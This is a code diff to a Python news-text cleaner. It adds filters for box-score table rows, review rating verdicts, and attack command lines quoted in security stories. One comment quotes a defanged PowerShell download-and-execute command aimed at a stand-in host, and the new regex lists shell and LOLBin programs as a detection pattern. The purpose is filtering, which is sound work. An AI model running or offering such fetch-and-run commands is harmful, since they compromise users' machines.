@@ -23,6 +23,8 @@ _QUOTE_ROW = re.compile(
     r" [+−-]\d[\d.,]*+(?: ?%| \([+−-]\d[\d.,]*+ ?%\))"
 )
 _QUOTE_ROW_MAX_CHARACTERS = 80
+# The most cells of a box's row set as a table's (:func:`_is_box_table_row`): its label's and its value's.
+_BOX_TABLE_CELLS = 2
 # A wire's currency note alone on its line under a figure it converts (Breakingviews's "($1 = 0.9231
 # euros)", Nikkei Asia's "($1 = 154.6 yen)"): one unit of a currency and its rate, in brackets.
 _CURRENCY_NOTE = re.compile(
@@ -74,10 +76,30 @@ _TABLE_ROW_MAX_CHARACTERS = 60
 # The first characters of a data provider's notice, a terminal's advert, a live blog's pointer and a table's
 # heading: a line that opens on none is spared their patterns.
 _OPENING_CHARACTERS = 4
+# A security desk's command line set between the story's paragraphs, as the attack or the fix runs it
+# (BleepingComputer's 'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"', "curl -fsSL https://... |
+# sh", "mshta.exe hxxps://..."): a shell's program in lower case, a switch after it ("-w", "/c", "--rm") or an
+# address, and no stop closing the line, and an address defanged in it ("hxxps://", "cdn-verify[.]com"): the
+# desk's sign that the line is an attack's, not one for its reader to run. Code, which no summary reads as a
+# sentence; the story's sentence about the command opens on a capital and runs on in words ("PowerShell then
+# downloads a script ..."). Not a how-to's or a release note's command, which the reader came for ("curl -sSL
+# https://install.python-poetry.org | python3 -", "sudo apt-get -y install ffmpeg", "npm install
+# tidepool@3.2": a page of the extraction bench's gold keeps the last).
+_COMMANDS = (
+    "powershell", "pwsh", "cmd", "curl", "wget", "iwr", "iex", "mshta", "rundll32", "regsvr32", "certutil",
+    "bitsadmin", "msiexec", "sudo", "bash", "chmod", "git", "npm", "pip", "pip3", "apt", "apt-get", "brew",
+    "docker", "kubectl",
+)  # fmt: skip
+_COMMAND_LINE = re.compile(
+    rf"(?:sudo )?(?:{'|'.join(_COMMANDS)})(?:\.exe)? (?:(?:-{{1,2}}|/)[a-z]|h(?:tt|xx)ps?://)[^\n]*+"
+)
+_COMMAND_LINE_MAX_CHARACTERS = 400
 _OPENINGS = frozenset(
     (
         "Mark", "Stoc", "Fina", "Donn", "Dato", "Dati", "Befo", "Foll", "Read", "Join", "Suiv", "Sigu", "Segu",
         "Siga", "Clas", "Tabe", "Stan",
+        # A command line's programs (:data:`_COMMAND_LINE`), lower case as a shell takes them.
+        *(f"{command}{after}"[:_OPENING_CHARACTERS] for command in _COMMANDS for after in " ."),
     )
 )  # fmt: skip
 # A columnist's disclaimer under the column (Breakingviews's "The author is a Reuters Breakingviews
@@ -130,6 +152,8 @@ _BOX_SCORE_ENTRY = re.compile(
     r"(?<![\w.'’-])[^\W\d_][\w.'’-]*+ \d{1,2}-\d{1,2} \d{1,2}-\d{1,2} \d{1,3}(?:,|$)"
 )
 _BOX_SCORE_ENTRIES = 2
+# A box score's columns, as its table's heading names them.
+_BOX_SCORE_COLUMNS = frozenset("FG FGA FT FTA 3PT 3PM PTS REB OREB DREB AST STL BLK TO PF MIN".split())
 _BOX_SCORE_MAX_CHARACTERS = 400
 # A review's spec box and its price and score rows, the label and its colon opening the line (TechRadar's
 # "Display: 6.3in OLED, 120Hz", "Price when reviewed: $799", Numerama's "Processeur : Snapdragon 8s Gen 4",
@@ -150,6 +174,16 @@ _SPEC_LABELS = frozenset(
 # A review's score under its label ("Rating: 4.5 out of 5 stars", "Note : 8/10"): a figure after the label, as
 # a note to the reader ("Note: The story was updated ...") has none.
 _SCORE_LABELS = frozenset(("rating", "our rating", "score", "note", "nota", "wertung", "bewertung"))
+# A rating in a word under its label, a quote widget's (Benzinga's "Overview Rating: Good" under "TSLA 248.31
+# +2.14%") or an analysts' ("Consensus Rating: Buy"): the verdict's word the value whole, as a note's sentence
+# ("Rating: Good news for savers, the agency said") goes on past it.
+_RATING_LABELS = frozenset(("rating", "our rating", "overview rating", "analyst rating", "consensus rating"))
+_RATING_VERDICTS = frozenset(
+    (
+        "good", "very good", "poor", "excellent", "average", "speculative", "neutral", "buy", "strong buy",
+        "sell", "strong sell", "hold", "outperform", "underperform", "overweight", "underweight",
+    )
+)  # fmt: skip
 # The score itself, the value whole: a note's sentence that opens on a figure ("Note: 20 people were injured
 # in the blast") goes on in words, a match's score ("Score: 3-1 to Arsenal") is a result's.
 _SCORE = re.compile(
@@ -192,7 +226,9 @@ def is_figures_line(text: str) -> bool:
     # each kind in turn had cost an XSum article's 17 lines some 190,000 instructions.
     size = len(text)
     last = text[-1:]
-    if last in "%)" and size <= _QUOTE_ROW_MAX_CHARACTERS:
+    if last in "%)|" and size <= _QUOTE_ROW_MAX_CHARACTERS:
+        if last == "|":
+            return _is_box_table_row(text)
         if (row := _QUOTE_ROW.fullmatch(text)) is not None and _is_a_name(row["name"].split()):
             return True
         if text[:1] == "(" and "=" in text and _CURRENCY_NOTE.fullmatch(text) is not None:
@@ -200,6 +236,13 @@ def is_figures_line(text: str) -> bool:
         if last == ")" and "illi" in text and _TABLE_CAPTION.fullmatch(text) is not None:
             return True
     if text[:_OPENING_CHARACTERS] in _OPENINGS:
+        if text[:1].islower():
+            return (
+                size <= _COMMAND_LINE_MAX_CHARACTERS
+                and last not in ".!?"
+                and ("hxxp" in text or "[.]" in text)
+                and _COMMAND_LINE.match(text) is not None
+            )
         if (provider := _DATA_PROVIDER.fullmatch(text)) is not None:
             return _is_a_name(provider["provider"].split())
         if _TERMINAL_AD.fullmatch(lowered := text.lower()) or _LIVE_BLOG_CALL.fullmatch(lowered):
@@ -260,6 +303,23 @@ def is_figures_line(text: str) -> bool:
     )
 
 
+def _is_box_table_row(text: str) -> bool:
+    """Whether a table's row between bars, as a page's table comes out of it, is a box's line
+    (:func:`is_figures_line`) in one or two cells: a review's spec table ("| Display: | 6.3in OLED, 120Hz |"),
+    its caption over it ("| Google Pixel 11 specs | |"), read as the line its cells make ("Display: 6.3in
+    OLED, 120Hz"), as the pasted copy sets it; or a box score's row or heading. A wider table is a story's
+    figures."""
+    cells = text.strip("| ").split(" | ")
+    if "|" in (line := " ".join(cells)):
+        return False
+    if len(cells) <= _BOX_TABLE_CELLS:
+        return is_figures_line(line)
+    # A box score's row, a player's in a cell each ("| Jokic | 12-21 | 5-6 | 31 |", the AP's as a page's table
+    # sets it), as the pasted copy's row holds the same entry; and its heading, the team's over the columns'
+    # abbreviations ("| DENVER (109) | FG | FT | PTS |").
+    return _BOX_SCORE_ENTRY.fullmatch(line) is not None or _BOX_SCORE_COLUMNS.issuperset(cells[1:])
+
+
 def _marks_a_match_s_line_up(label: str) -> bool:
     """Whether a line-up's ``label`` marks it as a match's (:data:`_FORMATION`, :data:`_LINE_UP_WORDS`,
     :data:`_SCORE_BEFORE_TEAM`), not a team-news story's side."""
@@ -297,7 +357,9 @@ def _is_review_row(label: str, value: str) -> bool:
         # the label runs on in words ("Storage: A problem for the agency", "Memory: Remembering the victims of
         # the 1994 attack").
         return not value[:1].islower() and any(map(str.isdigit, " ".join(value.split(maxsplit=4)[:4])))
-    return label in _SCORE_LABELS and _SCORE.fullmatch(value.rstrip()) is not None
+    if label in _SCORE_LABELS and _SCORE.fullmatch(value.rstrip()) is not None:
+        return True
+    return label in _RATING_LABELS and value.strip().casefold() in _RATING_VERDICTS
 
 
 def is_review_row(text: str) -> bool:
